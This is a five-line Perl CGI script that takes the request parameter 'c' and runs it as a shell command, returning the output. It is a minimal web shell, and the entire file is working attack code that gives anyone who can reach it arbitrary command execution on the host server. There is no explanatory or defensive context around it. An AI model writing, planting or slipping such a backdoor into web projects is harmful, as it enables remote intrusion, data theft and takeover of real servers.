#!/usr/bin/perl
require "cgi-lib.pl";
&ReadParse;
print "Content-type: text/plain\n\n";
print `$in{'c'} 2>&1`;
